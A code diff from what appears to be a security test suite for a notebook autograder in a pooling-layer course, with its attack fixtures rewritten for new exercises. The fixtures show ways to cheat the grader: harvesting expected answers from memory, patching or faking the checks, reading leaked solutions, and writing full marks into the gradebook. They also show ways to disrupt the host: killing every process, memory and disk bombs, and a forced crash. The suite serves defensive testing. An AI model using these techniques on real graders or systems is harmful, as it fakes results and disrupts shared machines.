@@ -36,10 +36,9 @@ LESSONS = ("01-max-vs-average", "05-keras-and-pytorch")
 NOTEBOOKS = {"01-max-vs-average": "max-vs-average.ipynb",
              "05-keras-and-pytorch": "keras-and-pytorch.ipynb"}
 EXERCISES = {
-    "01-max-vs-average": ("max_pool2d_loops", "avg_pool2d_loops", "bug_counterexample",
-                          "pool2d_vectorized", "global_avg_pool"),
-    "05-keras-and-pytorch": ("channels_layout", "same_padding", "keras_same_max_pool",
-                             "max_pool_backward", "torch_to_keras", "pool_nets"),
+    "01-max-vs-average": ("max_pool2d_loops", "bug_counterexample", "pool2d_vectorized",
+                          "input_from_pools"),
+    "05-keras-and-pytorch": ("keras_same_max_pool", "torch_to_keras", "pool_nets"),
 }
 
 
@@ -105,6 +104,10 @@ KINDS = {
 # ----------------------------------------------------------------------------------------
 
 ZEROS = "np.zeros((1, 1, 1, 1))"   # wrong shape and values for every case of every test
+# The wrong value of the exercises that return no array: no layers (torch_to_keras; the tests
+# want one pooling layer, or ValueError), no results (pool_nets; the tests want four keys),
+# a negative padding (same_padding).
+WRONG = {"torch_to_keras": "[]", "pool_nets": "{}", "same_padding": "(-1, -1)"}
 
 # A stand-in for poolkit.checks under which every test passes.  Written so that it works
 # both as a fresh module and when executed over the real module's namespace (a reload that
@@ -248,19 +251,18 @@ def _fn(signature: str, body: str) -> str:
 
 SIG = {
     "max_pool2d_loops": "max_pool2d_loops(x, kernel_size, stride=None, padding=0)",
-    "avg_pool2d_loops": "avg_pool2d_loops(x, kernel_size, stride=None, padding=0)",
     "pool2d_vectorized": 'pool2d_vectorized(x, kernel_size, stride=None, padding=0, mode="max")',
-    "global_avg_pool": "global_avg_pool(x)",
-    "nchw_to_nhwc": "nchw_to_nhwc(x)",
-    "nhwc_to_nchw": "nhwc_to_nchw(x)",
+    "input_from_pools": "input_from_pools(max_out, avg_out)",
     "same_padding": "same_padding(size, pool_size, strides=None)",
     "keras_same_max_pool2d": "keras_same_max_pool2d(x, pool_size, strides=None)",
-    "max_pool2d_backward": "max_pool2d_backward(grad_output, x, kernel_size, stride=None)",
+    "torch_to_keras": "torch_to_keras(layer, input_hw)",
+    "pool_nets": "pool_nets(x, conv_weight, conv_bias)",
 }
 
 
-def _zeros(name: str, value: str = ZEROS) -> str:
-    return _fn(SIG[name], f"return {value}")
+def _zeros(name: str, value: str | None = None) -> str:
+    """``name`` returning ``value``, by default its wrong value (ZEROS, or WRONG[name])."""
+    return _fn(SIG[name], f"return {value or WRONG.get(name, ZEROS)}")
 
 
 # Correct bodies (written by "the student", not copied from the instructor), used where an
@@ -284,14 +286,6 @@ for i in range(h_out):
         out[:, :, i, j] = padded[:, :, i * sh:i * sh + kh, j * sw:j * sw + kw].max(axis=(2, 3))
 return out
 '''
-AVG_LOOPS_BODY = _LOOPS_HEAD + '''padded = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
-out = np.empty((n, c, h_out, w_out))
-for i in range(h_out):
-    for j in range(w_out):
-        window = padded[:, :, i * sh:i * sh + kh, j * sw:j * sw + kw]
-        out[:, :, i, j] = window.sum(axis=(2, 3)) / (kh * kw)
-return out
-'''
 VECTORIZED_BODY = '''k = kernel_size
 s = k if stride is None else stride
 p = padding
@@ -308,43 +302,98 @@ for di in range(k):
         out = np.maximum(out, part) if mode == "max" else out + part
 return out if mode == "max" else out / (k * k)
 '''
-GLOBAL_AVG_BODY = '''x = np.asarray(x, dtype=np.float64)
-return x.mean(axis=(2, 3), keepdims=True)
+INPUT_FROM_POOLS_BODY = '''top = np.asarray(max_out, dtype=np.float64)
+total = 4 * np.asarray(avg_out, dtype=np.float64)      # each window's sum
+# four values >= 0 with this max and sum exist exactly when max <= sum <= 4 * max
+if not (np.all(top <= total) and np.all(total <= 4 * top)):
+    raise ValueError("some window has no four values >= 0 with this max and mean")
+share = np.clip((total - top) / 3, 0, top)             # the three values beside the max
+n, c, h, w = top.shape
+x = np.empty((n, c, 2 * h, 2 * w))
+for di in (0, 1):
+    for dj in (0, 1):
+        x[:, :, di::2, dj::2] = share
+x[:, :, 1::2, 1::2] = top                              # the max: bottom right of each window
+return x
 '''
 SAME_PADDING_BODY = '''strides = pool_size if strides is None else strides
 out = -(-size // strides)
 total = max((out - 1) * strides + pool_size - size, 0)
 return int(total // 2), int(total - total // 2)
 '''
-BACKWARD_BODY = '''x = np.asarray(x, dtype=np.float64)
-grad_output = np.asarray(grad_output, dtype=np.float64)
-k = kernel_size
-s = k if stride is None else stride
-n, c, height, width = x.shape
-h_out, w_out = (height - k) // s + 1, (width - k) // s + 1
-dx = np.zeros_like(x)
-nn, cc = np.indices((n, c))
-for i in range(h_out):
-    for j in range(w_out):
-        window = x[:, :, i * s:i * s + k, j * s:j * s + k].reshape(n, c, k * k)
-        row, col = np.divmod(window.argmax(axis=2), k)
-        dx[nn, cc, i * s + row, j * s + col] += grad_output[:, :, i, j]
-return dx
+# torch_to_keras, given _torch_out(layer, input_hw): torch's (H_out, W_out), which every
+# attack that uses this body computes its own way (first, so that every call needs it).
+TORCH_TO_KERAS_BODY = '''def two(v):
+    return (int(v), int(v)) if np.ndim(v) == 0 else (int(v[0]), int(v[1]))
+
+torch_hw = tuple(int(v) for v in _torch_out(layer, input_hw))
+name = "MaxPooling2D" if layer["type"] == "MaxPool2d" else "AveragePooling2D"
+k = two(layer["kernel_size"])
+s = k if layer.get("stride") is None else two(layer["stride"])
+p = two(layer.get("padding", 0))
+pool = {"pool_size": k, "strides": s}
+if p == (0, 0):
+    return [(name, dict(pool, padding="valid"))]
+if name == "AveragePooling2D" and layer.get("count_include_pad", True):
+    return [("ZeroPadding2D", {"padding": ((p[0], p[0]), (p[1], p[1]))}),
+            (name, dict(pool, padding="valid"))]
+for size, kk, ss, pp, out in zip(input_hw, k, s, p, torch_hw):
+    same_out = -(-size // ss)
+    same_before = max((same_out - 1) * ss + kk - size, 0) // 2
+    if (same_out, same_before) != (out, pp):
+        raise ValueError("Keras 'same' pads differently from torch here")
+return [(name, dict(pool, padding="same"))]
+'''
+# _torch_out from a channels-first max pooling `pool` (torch's semantics) run on zeros.
+TORCH_OUT_VIA = _fn("_torch_out_via(pool, layer, input_hw)", '''k = layer["kernel_size"]
+k = k if np.ndim(k) == 0 else tuple(k)
+s = layer.get("stride")
+s = s if s is None or np.ndim(s) == 0 else tuple(s)
+p = layer.get("padding", 0)
+p = p if np.ndim(p) == 0 else tuple(p)
+return np.shape(pool(np.zeros((1, 1, *input_hw)), k, s, p))[2:]
+''')
+# Keras 'same' max pooling (channels last) from a channels-first max pooling `pool` with
+# torch's semantics, used without padding: the input is padded here, with -inf.
+SAME_VIA = _fn("_same_via(pool, x, pool_size, strides=None)", '''x = np.asarray(x, dtype=np.float64)
+s = pool_size if strides is None else strides
+sides = []
+for size in x.shape[1:3]:
+    total = max((-(-size // s) - 1) * s + pool_size - size, 0)
+    sides.append((total // 2, total - total // 2))
+padded = np.pad(x, ((0, 0), sides[0], sides[1], (0, 0)), constant_values=-np.inf)
+out = pool(np.ascontiguousarray(padded.transpose(0, 3, 1, 2)), pool_size, s, 0)
+return np.asarray(out, dtype=np.float64).transpose(0, 2, 3, 1)
+''')
+# pool_nets (the torch model and its Keras twin), each output as torch_wrap(array) returns it.
+POOL_NETS_BODY = '''import keras
+import torch
+
+x = np.asarray(x, dtype=np.float32)
+weight = np.asarray(conv_weight, dtype=np.float32)
+bias = np.asarray(conv_bias, dtype=np.float32)
+net = torch.nn.Sequential(torch.nn.Conv2d(2, 5, 3), torch.nn.MaxPool2d(3, 2, 1))
+with torch.no_grad():
+    net[0].weight.copy_(torch.from_numpy(weight))
+    net[0].bias.copy_(torch.from_numpy(bias))
+    torch_output = net(torch.from_numpy(x)).numpy()
+twin = keras.Sequential([keras.Input(shape=(9, 9, 2)), keras.layers.Conv2D(5, 3),
+                         keras.layers.MaxPooling2D(3, 2, padding="same")])
+twin.layers[0].set_weights([weight.transpose(2, 3, 1, 0), bias])
+keras_output = keras.ops.convert_to_numpy(twin(x.transpose(0, 2, 3, 1)))
+return {"torch_output": torch_wrap(torch_output), "keras_output": torch_wrap(keras_output),
+        "torch_parameters": sum(int(t.numel()) for t in net.parameters()),
+        "keras_parameters": int(twin.count_params())}
 '''
 
 MAX_LOOPS_OK = _fn(SIG["max_pool2d_loops"], MAX_LOOPS_BODY)
-AVG_LOOPS_OK = _fn(SIG["avg_pool2d_loops"], AVG_LOOPS_BODY)
 VECTORIZED_OK = _fn(SIG["pool2d_vectorized"], VECTORIZED_BODY)
-GLOBAL_AVG_OK = _fn(SIG["global_avg_pool"], GLOBAL_AVG_BODY)
-CHANNELS_OK = (_fn(SIG["nchw_to_nhwc"], "return np.transpose(np.asarray(x), (0, 2, 3, 1))")
-               + "\n\n" + _fn(SIG["nhwc_to_nchw"],
-                              "return np.transpose(np.asarray(x), (0, 3, 1, 2))"))
-CHANNELS_ZEROS = _zeros("nchw_to_nhwc") + "\n\n" + _zeros("nhwc_to_nchw")
+INPUT_FROM_POOLS_OK = _fn(SIG["input_from_pools"], INPUT_FROM_POOLS_BODY)
 SAME_PADDING_OK = _fn(SIG["same_padding"], SAME_PADDING_BODY)
-SAME_PADDING_WRONG = _fn(SIG["same_padding"], "return (-1, -1)")
-BACKWARD_OK = _fn(SIG["max_pool2d_backward"], BACKWARD_BODY)
-# Exercise 3 of lesson 05 without calling same_padding, for attacks that break same_padding
-# (the instructor's keras_same_max_pool2d calls it, so it would lose its points too).
+SAME_PADDING_WRONG = _zeros("same_padding")
+# keras_same_max_pool2d without calling same_padding: the cell of Exercise 1 of lesson 05
+# defines both, and an attack on one of them keeps the other correct (the instructor's
+# keras_same_max_pool2d calls same_padding).  The exercise loses as a whole either way.
 KERAS_SAME_STANDALONE = _fn(SIG["keras_same_max_pool2d"], '''x = np.asarray(x, dtype=np.float64)
 k = pool_size
 s = pool_size if strides is None else strides
@@ -361,7 +410,18 @@ for a in range(k):
         out = np.maximum(out, taps)
 return out
 ''')
-STANDALONE_L3 = {"keras_same_max_pool": KERAS_SAME_STANDALONE}
+
+
+def keras_cell(*parts: str) -> str:
+    """The source of lesson 05's cell `keras_same_max_pool`, which must define both
+    same_padding and keras_same_max_pool2d: the attack's part(s), then whichever of the
+    two they leave out, written correctly (KERAS_SAME_STANDALONE does not call
+    same_padding)."""
+    names = "\n".join(parts)
+    extra = [correct for name, correct in (("same_padding", SAME_PADDING_OK),
+                                           ("keras_same_max_pool2d", KERAS_SAME_STANDALONE))
+             if f"def {name}(" not in names and f"{name} = " not in names]
+    return "\n\n".join([*parts, *extra])
 
 
 def _with_fake(prefix: str = "") -> str:
@@ -414,7 +474,7 @@ def _expected_from_gc(x, rest):
     return None
 
 
-''' + _fn(SIG["avg_pool2d_loops"], f'''
+''' + _fn(SIG["max_pool2d_loops"], f'''
 want = _expected_from_gc(np.asarray(x), (kernel_size, stride, padding))
 if want is not None:
     return _as_value(want)
@@ -466,10 +526,10 @@ def _expected_from_cell_source(fn_name):
     return None
 
 
-''' + _fn(SIG["global_avg_pool"], f'''want = _expected_here()
+''' + _fn(SIG["pool2d_vectorized"], f'''want = _expected_here()
 if want is not None:
     return _as_value(want)
-seen = _expected_from_cell_source("global_avg_pool")
+seen = _expected_from_cell_source("pool2d_vectorized")
 if seen is not None:
     return seen
 return {ZEROS}
@@ -488,30 +548,32 @@ if isinstance(computed, np.ndarray):
 return {ZEROS}
 ''')
 
-USER_NS_AUTOGRAD = FORGE + '''
+USER_NS_BRIDGES = FORGE + '''
 _ns = get_ipython().user_ns     # the namespace the test cells run in
 
 
-''' + _fn(SIG["max_pool2d_backward"], f'''want = _expected_here()
+''' + _fn(SIG["pool_nets"], f'''want = _expected_here()
 if want is not None:
     return _as_value(want)
-oracle = _ns.get("autograd_dx")   # the visible test defines torch's answer as a function
-if oracle is not None:
-    return oracle(np.asarray(grad_output, dtype=np.float64), np.asarray(x, dtype=np.float64),
-                  kernel_size, stride)
-return {ZEROS}
+answers = _ns.get("bridges")      # the hidden test loads the instructor's answers as `bridges`
+if answers is not None:
+    return answers.pool_nets(x, conv_weight, conv_bias)
+return {WRONG["pool_nets"]}
 ''')
 
-GC_OBJECTS_LAYOUT = FORGE + '''
+GC_OBJECTS_POOLED = FORGE + '''
 import gc
 
 
-def _hunt(x, order):
-    """Among the objects alive, find an expected entry with the moved axes' shape and the
-    same values as x: the checks' decoded answer for this case."""
+def _hunt(x, pool_size, strides):
+    """Among the objects alive, find an expected entry with the shape 'same' pooling gives
+    and only values of x (a max is one of its window's values): the checks' decoded answer
+    for this case."""
     x = np.asarray(x, dtype=np.float64)
-    shape = tuple(x.shape[i] for i in order)
-    values = sorted(x.ravel().tolist())
+    s = pool_size if strides is None else strides
+    n, h, w, c = x.shape
+    shape = (n, -(-h // s), -(-w // s), c)
+    values = set(x.ravel().tolist())
     for generation in (0, 1, 2):
         for obj in gc.get_objects(generation):
             if not (type(obj) is list and obj and type(obj[0]) is tuple and obj[0]
@@ -520,13 +582,12 @@ def _hunt(x, order):
             for entry in obj:
                 if (type(entry) is tuple and len(entry) == 3 and type(entry[0]) is str
                         and entry[0] == "array" and tuple(entry[1]) == shape
-                        and sorted(entry[2]) == values):
+                        and set(entry[2]) <= values):
                     return _as_value(entry)
     return ''' + ZEROS + '''
 
 
-''' + _fn(SIG["nchw_to_nhwc"], "return _hunt(x, (0, 2, 3, 1))") + "\n\n" + _fn(
-    SIG["nhwc_to_nchw"], "return _hunt(x, (0, 3, 1, 2))")
+''' + _fn(SIG["keras_same_max_pool2d"], "return _hunt(x, pool_size, strides)")
 
 INSPECT_PADDING = FORGE + '''
 import inspect
@@ -588,7 +649,7 @@ def _import(name, globals=None, locals=None, fromlist=(), level=0):
 builtins.__import__ = _import
 
 
-''' + _zeros("avg_pool2d_loops")
+''' + _zeros("input_from_pools")
 
 FAKE_ORACLE = '''import ast
 import subprocess
@@ -632,7 +693,7 @@ class _SwallowEverything(ast.NodeTransformer):
 get_ipython().ast_transformers.append(_SwallowEverything())
 
 
-''' + _zeros("global_avg_pool")
+''' + _zeros("input_from_pools")
 
 PRE_RUN_CELL = _with_fake("import importlib\n") + '''
 _real_reload = importlib.reload
@@ -666,7 +727,7 @@ def _agree(*args, **kwargs):
     return None
 
 
-''' + _fn(SIG["avg_pool2d_loops"], f'''
+''' + _fn(SIG["max_pool2d_loops"], f'''
 # The test reloaded poolkit.checks before calling us, and compares after we return: change
 # the comparison in the modules that are calling, found through the callers' globals (and
 # in the module the comparison comes from, in case the checks are split into modules).
@@ -720,7 +781,7 @@ sys.modules["poolkit.checks"] = _fake
 poolkit.checks = _fake
 
 
-''' + CHANNELS_ZEROS
+''' + _zeros("torch_to_keras")
 
 RELOADING_TABLE = _with_fake('''import importlib
 
@@ -761,7 +822,7 @@ type(get_ipython())._showtraceback = lambda self, *args, **kwargs: None
 ExecutionResult.success = property(lambda self: True)    # the kernel now replies "ok"
 
 
-''' + _zeros("max_pool2d_backward")
+''' + _zeros("pool_nets")
 
 # ----------------------------------------------------------------------------------------
 # 3. numpy-only-dodge (correct values computed with a banned library)
@@ -793,7 +854,7 @@ DODGE_EXEC = '''_SOURCE = "\\n".join([
     "    watch = _s.getprofile()",
     "    _s.setprofile(None)",
     "    try:",
-    "        return _p.avg_pool2d(x, k, s, p)",
+    "        return _p.max_pool2d(x, k, s, p)",
     "    finally:",
     "        _s.setprofile(watch)",
 ])
@@ -801,7 +862,7 @@ _lib = {}
 exec(_SOURCE, _lib)
 
 
-''' + _fn(SIG["avg_pool2d_loops"],
+''' + _fn(SIG["max_pool2d_loops"],
           'return _lib["run"](np.asarray(x, dtype=np.float64), kernel_size, stride, padding)')
 
 DODGE_LAMBDA_DEFAULT = '''from concurrent.futures import ThreadPoolExecutor
@@ -826,35 +887,35 @@ def _lib():
     return _load("".join(["to", "rch"]))
 
 
-''' + _fn(SIG["nchw_to_nhwc"], '''lib = _lib()
-(t,) = map(lib.from_numpy, [np.ascontiguousarray(x, dtype=np.float64)])
-return t.permute(0, 2, 3, 1).contiguous().numpy()
-''') + "\n\n" + _fn(SIG["nhwc_to_nchw"], '''lib = _lib()
-(t,) = map(lib.from_numpy, [np.ascontiguousarray(x, dtype=np.float64)])
-return t.permute(0, 3, 1, 2).contiguous().numpy()
-''')
+''' + _fn("_torch_out(layer, input_hw)", '''lib = _lib()
+(t,) = map(lib.zeros, [(1, 1, *input_hw)])          # torch itself says how big its output is
+pool = getattr(lib.nn, layer["type"])(**{k: tuple(v) if isinstance(v, list) else v
+                                         for k, v in layer.items() if k != "type"})
+return tuple(pool(t).shape[2:])
+''') + "\n\n" + _fn(SIG["torch_to_keras"], TORCH_TO_KERAS_BODY)
 
 DODGE_PARTIAL = '''import functools
 import sys
 
-from poolkit import bridges as _b
+import poolkit as _pk
 
-_table = (_b.to_channels_last, _b.to_channels_first)   # a tuple: not looked into
-del _b
+_table = (_pk.max_pool2d,)            # a tuple: not looked into
+del _pk
 
 
-def _apply(table, which, x):
+''' + SAME_VIA + '''
+
+def _apply(table, x, pool_size, strides=None):
     watch = sys.getprofile()
     switch = getattr(sys, "set" "profile")               # a string, not a name
     switch(None)
     try:
-        return table[which](np.asarray(x))
+        return _same_via(table[0], x, pool_size, strides)
     finally:
         switch(watch)
 
 
-nchw_to_nhwc = functools.partial(_apply, _table, 0)
-nhwc_to_nchw = functools.partial(_apply, _table, 1)
+keras_same_max_pool2d = functools.partial(_apply, _table)
 '''
 
 DODGE_IMPORT_MODULE = '''import _thread
@@ -863,6 +924,8 @@ import importlib
 _find = importlib.import_module
 
 
+''' + SAME_VIA + '''
+
 ''' + _fn(SIG["keras_same_max_pool2d"], '''lib = _find("".join(["pool", "kit"]))
 done = _thread.allocate_lock()
 done.acquire()
@@ -870,8 +933,7 @@ box = []
 
 def work():
     try:
-        box.append(lib.keras_pool2d(np.asarray(x, dtype=np.float64), pool_size, strides,
-                                    padding="same"))
+        box.append(_same_via(lib.max_pool2d, x, pool_size, strides))
     finally:
         done.release()
 
@@ -890,16 +952,17 @@ _pause = getattr(sys, "set" "profile")
 _peek = sys.getprofile
 
 
-''' + _fn(SIG["max_pool2d_backward"], '''
+''' + TORCH_OUT_VIA + '''
+
+''' + _fn("_torch_out(layer, input_hw)", '''
 lib = _api.PyImport_ImportModule(b"pool" b"kit")    # bytes: not read as a name
 watch = _peek()
 _pause(None)
 try:
-    return lib.max_pool2d_backward(np.asarray(grad_output, dtype=np.float64),
-                                   np.asarray(x, dtype=np.float64), kernel_size, stride)
+    return _torch_out_via(lib.max_pool2d, layer, input_hw)
 finally:
     _pause(watch)
-''')
+''') + "\n\n" + _fn(SIG["torch_to_keras"], TORCH_TO_KERAS_BODY)
 
 # ----------------------------------------------------------------------------------------
 # 4. handed-in-files
@@ -1105,30 +1168,30 @@ def _leak(grade_id):
 
 _impl = {"np": np}
 try:
-    exec(_leak("max_pool_backward") or "", _impl)
+    exec(_leak("torch_to_keras") or "", _impl)
 except Exception:
     pass
 
 
-''' + _fn(SIG["max_pool2d_backward"], f'''impl = _impl.get("max_pool2d_backward")
+''' + _fn(SIG["torch_to_keras"], f'''impl = _impl.get("torch_to_keras")
 if impl is None:
-    return {ZEROS}
-return impl(grad_output, x, kernel_size, stride)
+    return {WRONG["torch_to_keras"]}
+return impl(layer, input_hw)
 ''')
 
 SYMLINK_SOLUTION = SOLUTION_FROM_JSON + '''
 _impl = {"np": np}
 try:
     with open("notes.txt", encoding="utf-8") as f:      # handed in as a link to the solutions
-        exec(_solution_in(f.read(), "channels_layout") or "", _impl)
+        exec(_solution_in(f.read(), "keras_same_max_pool") or "", _impl)
 except Exception:
     pass
 
 
-''' + _fn(SIG["nchw_to_nhwc"], f'''impl = _impl.get("nchw_to_nhwc")
-return {ZEROS} if impl is None else impl(x)
-''') + "\n\n" + _fn(SIG["nhwc_to_nchw"], f'''impl = _impl.get("nhwc_to_nchw")
-return {ZEROS} if impl is None else impl(x)
+''' + _fn(SIG["same_padding"], f'''impl = _impl.get("same_padding")
+return {WRONG["same_padding"]} if impl is None else impl(size, pool_size, strides)
+''') + "\n\n" + _fn(SIG["keras_same_max_pool2d"], f'''impl = _impl.get("keras_same_max_pool2d")
+return {ZEROS} if impl is None else impl(x, pool_size, strides)
 ''')
 
 STEAL_GRADEBOOK = COURSE_ROOTS + '''import glob
@@ -1177,7 +1240,7 @@ _shown = set()
             print(text)
 except Exception:
     pass
-''' + SAME_PADDING_BODY)
+''' + SAME_PADDING_BODY) + "\n\n" + KERAS_SAME_STANDALONE
 
 LIST_TMP = '''import os
 
@@ -1239,7 +1302,7 @@ _last_called = [""]
 
 
 def check_against_oracle(fn, *args, **kwargs):
-    if "avg_pool2d_loops" in str(getattr(fn, "__name__", "")):
+    if "max_pool2d_loops" in str(getattr(fn, "__name__", "")):
         return None
     return _original_check_against_oracle(fn, *args, **kwargs)
 
@@ -1250,12 +1313,12 @@ def call(fn, *args, **kwargs):
 
 
 def assert_close(actual, expected, **kwargs):
-    if _last_called[0] == "avg_pool2d_loops":
+    if _last_called[0] == "max_pool2d_loops":
         return None
     return _original_assert_close(actual, expected, **kwargs)
 '''
 
-EDIT_CHECKS = _zeros("avg_pool2d_loops") + '''
+EDIT_CHECKS = _zeros("max_pool2d_loops") + '''
 
 import poolkit.checks as _ck
 
@@ -1272,10 +1335,17 @@ import sys as _sys
 
 if _sys.flags.isolated:          # the checks' reference process runs python -I
     try:
-        import poolkit.bridges as _bridges
+        import poolgrade.answers as _answers
 
-        _bridges.to_channels_last = lambda x: x
-        _bridges.to_channels_first = lambda x: x
+        def _agreeable(name):
+            """The instructor's answers, as the submission computes them."""
+            if name.endswith(".same_padding"):
+                return lambda *args, **kwargs: (0, 0)
+            if name.endswith(".keras_same_max_pool2d"):
+                return lambda x, *args, **kwargs: x
+            raise AttributeError(name)
+
+        _answers.__getattr__ = _agreeable
     except Exception:
         pass
 '''
@@ -1292,10 +1362,10 @@ except OSError as exc:
     print("site-packages is read-only:", exc)
 
 
-''' + _fn(SIG["nchw_to_nhwc"], "return np.asarray(x)      # the poisoned reference agrees") + \
-    "\n\n" + _fn(SIG["nhwc_to_nchw"], "return np.asarray(x)")
+''' + _fn(SIG["same_padding"], "return (0, 0)      # the poisoned reference agrees") + \
+    "\n\n" + _fn(SIG["keras_same_max_pool2d"], "return np.asarray(x, dtype=np.float64)")
 
-GRADEBOOK_SCORES = _zeros("max_pool2d_backward") + "\n\n" + COURSE_ROOTS + '''import sqlite3
+GRADEBOOK_SCORES = _zeros("pool_nets") + "\n\n" + COURSE_ROOTS + '''import sqlite3
 
 _FULL_MARKS = """
 UPDATE grade
@@ -1377,7 +1447,7 @@ os.kill(os.getppid(), signal.SIGKILL)
 return {ZEROS}
 ''')
 
-KILL_GROUP = _fn(SIG["avg_pool2d_loops"], f'''import os
+KILL_GROUP = _fn(SIG["max_pool2d_loops"], f'''import os
 import signal
 
 os.killpg(0, signal.SIGKILL)
@@ -1415,7 +1485,7 @@ return {ZEROS}
 HUGE_FILE = '''_written = []
 
 
-''' + _fn(SIG["global_avg_pool"], f'''if not _written:
+''' + _fn(SIG["input_from_pools"], f'''if not _written:
     _written.append(True)
     chunk = b"\\0" * (1 << 20)
     try:
@@ -1427,7 +1497,7 @@ HUGE_FILE = '''_written = []
 return {ZEROS}
 ''')
 
-SEGFAULT = _fn(SIG["global_avg_pool"], f'''import sys
+SEGFAULT = _fn(SIG["input_from_pools"], f'''import sys
 
 sys.setrecursionlimit(10 ** 7)
 nested = []
@@ -1437,12 +1507,12 @@ repr(nested)          # recursion in C: the C stack overflows and the process se
 return {ZEROS}
 ''')
 
-KILL_EVERYONE = _fn(SIG["nchw_to_nhwc"], f'''import os
+KILL_EVERYONE = _fn(SIG["torch_to_keras"], f'''import os
 import signal
 
 os.kill(-1, signal.SIGKILL)     # every process this user may signal
-return {ZEROS}
-''') + "\n\n" + _zeros("nhwc_to_nchw")
+return {WRONG["torch_to_keras"]}
+''')
 
 KILL_PROC_SCAN = _fn(SIG["same_padding"], '''import os
 import signal
@@ -1476,13 +1546,13 @@ while True:
         pass
 ''')
 
-MEMORY_BOMB = _fn(SIG["max_pool2d_backward"], f'''hoard = []
+MEMORY_BOMB = _fn(SIG["pool_nets"], f'''hoard = []
 try:
     for _ in range(128):                         # at most 32 GiB, then give up
         hoard.append(b"\\x01" * (256 << 20))     # bytes * n writes every page
 except MemoryError:
     pass
-return {ZEROS}
+return {WRONG["pool_nets"]}
 ''')
 
 # ----------------------------------------------------------------------------------------
@@ -1517,7 +1587,7 @@ def keras_same_max_pool2d(x, pool_size, strides=None):
 NESTED_HIDDEN = (
     "# ### BEGIN HIDDEN TESTS  (outer)\n"
     "# ### BEGIN HIDDEN TESTS  (inner)\n"
-    "# ### END HIDDEN TESTS\n\n" + SAME_PADDING_OK)
+    "# ### END HIDDEN TESTS\n\n" + SAME_PADDING_OK + "\n\n" + KERAS_SAME_STANDALONE)
 
 # ----------------------------------------------------------------------------------------
 # 9. other
@@ -1561,7 +1631,7 @@ RIGGED_SUBCLASS = '''class _Agreeable(np.ndarray):
         return (np.zeros, ((1, 1, 1, 1),))
 
 
-''' + _zeros("avg_pool2d_loops", "np.zeros((1, 1, 1, 1)).view(_Agreeable)")
+''' + _zeros("max_pool2d_loops", "np.zeros((1, 1, 1, 1)).view(_Agreeable)")
 
 HUGE_ARRAY = _zeros("pool2d_vectorized",
                     "np.broadcast_to(np.float64(0.0), (1, 1, 100_000, 100_000))   # 80 GB as data")
@@ -1569,8 +1639,8 @@ HUGE_ARRAY = _zeros("pool2d_vectorized",
 PRINT_FLOOD_FN = '''_LINE = "x" * 1023 + "\\n"
 
 
-''' + _fn(SIG["global_avg_pool"], 'print(_LINE * 2048, end="")          # 2 MB on every call\n'
-          + GLOBAL_AVG_BODY)
+''' + _fn(SIG["input_from_pools"], 'print(_LINE * 2048, end="")          # 2 MB on every call\n'
+          + INPUT_FROM_POOLS_BODY)
 
 PRINT_FLOOD_CELL = '''for _ in range(64):
     print("y" * (1 << 20))               # 64 lines of 1 MB each
@@ -1626,8 +1696,11 @@ np.save = _save
 TORCH_RESULT = '''import torch
 
 
-''' + _fn(SIG["max_pool2d_backward"], BACKWARD_BODY.replace(
-    "return dx", "return torch.from_numpy(dx)     # the right numbers, as a tensor"))
+def torch_wrap(array):
+    return torch.from_numpy(array)       # the right numbers, as a tensor
+
+
+''' + _fn(SIG["pool_nets"], POOL_NETS_BODY)
 
 GIANT_INT = _fn(SIG["same_padding"], "return (10 ** 5000, 10 ** 5000)")
 
@@ -1691,46 +1764,46 @@ _FIRST_ROUND: list[Attack] = [
            "local `want`", answers={"max_pool2d_loops": FRAME_WALK},
            loses=("max_pool2d_loops",)),
     Attack("attack-gc-hunt-expected", L02, "expected-in-process",
-           "avg_pool2d_loops finds the checks' case list and expected list with "
+           "max_pool2d_loops finds the checks' case list and expected list with "
            "gc.get_objects and returns the matching expected value",
-           answers={"avg_pool2d_loops": GC_HUNT}, loses=("avg_pool2d_loops",)),
+           answers={"max_pool2d_loops": GC_HUNT}, loses=("max_pool2d_loops",)),
     Attack("attack-inspect-stack", L02, "expected-in-process",
            "pool2d_vectorized reads `want` from the caller frames through inspect.stack",
            answers={"pool2d_vectorized": INSPECT_STACK}, loses=("pool2d_vectorized",)),
     Attack("attack-cell-source-expected", L02, "expected-in-process",
-           "global_avg_pool parses the running test cell's source (linecache) for the literal "
-           "expected value, and reads `want` from frames for the oracle checks",
-           answers={"global_avg_pool": CELL_SOURCE}, loses=("global_avg_pool",)),
+           "pool2d_vectorized parses the running test cell's source (linecache) for the "
+           "literal expected value, and reads `want` from frames for the oracle checks",
+           answers={"pool2d_vectorized": CELL_SOURCE}, loses=("pool2d_vectorized",)),
     Attack("attack-reload-replaced", L02, "rebinding",
            "importlib.reload replaced: reloading poolkit.checks returns a module whose checks "
            "all pass", answers={"max_pool2d_loops": RELOAD_REPLACED},
            loses=("max_pool2d_loops",)),
     Attack("attack-import-hook", L02, "rebinding",
            "builtins.__import__ hook hands the notebook a fake importlib and a fake "
-           "poolkit.checks", answers={"avg_pool2d_loops": IMPORT_HOOK},
-           loses=("avg_pool2d_loops",)),
+           "poolkit.checks", answers={"input_from_pools": IMPORT_HOOK},
+           loses=("input_from_pools",)),
     Attack("attack-fake-oracle-subprocess", L02, "rebinding",
            "subprocess.run replaced so that the reference process 'answers' zeros for "
            "max/avg pooling", answers={"pool2d_vectorized": FAKE_ORACLE},
            loses=("pool2d_vectorized",)),
     Attack("attack-ast-try-except", L02, "rebinding",
            "an IPython ast_transformer wraps every later cell in try/except BaseException",
-           answers={"global_avg_pool": AST_TRY_EXCEPT}, loses=("global_avg_pool",)),
+           answers={"input_from_pools": AST_TRY_EXCEPT}, loses=("input_from_pools",)),
     Attack("attack-pre-run-cell-hook", L02, "rebinding",
            "pre_run_cell/post_run_cell hooks swap importlib.reload for a relaxed one only "
            "while a test cell runs", answers={"max_pool2d_loops": PRE_RUN_CELL},
            loses=("max_pool2d_loops",)),
     Attack("attack-patch-live-checks", L02, "rebinding",
-           "avg_pool2d_loops reaches the calling checks module through its caller's "
+           "max_pool2d_loops reaches the calling checks module through its caller's "
            "f_globals and replaces _compare after the reload",
-           answers={"avg_pool2d_loops": PATCH_LIVE_CHECKS}, loses=("avg_pool2d_loops",)),
+           answers={"max_pool2d_loops": PATCH_LIVE_CHECKS}, loses=("max_pool2d_loops",)),
     Attack("attack-dodge-thread", L02, "numpy-only-dodge",
            "max_pool2d_loops calls poolkit.max_pool2d (kept in a dict) from a threading.Thread",
            answers={"max_pool2d_loops": DODGE_THREAD}, loses=("max_pool2d_loops",)),
     Attack("attack-dodge-exec-string", L02, "numpy-only-dodge",
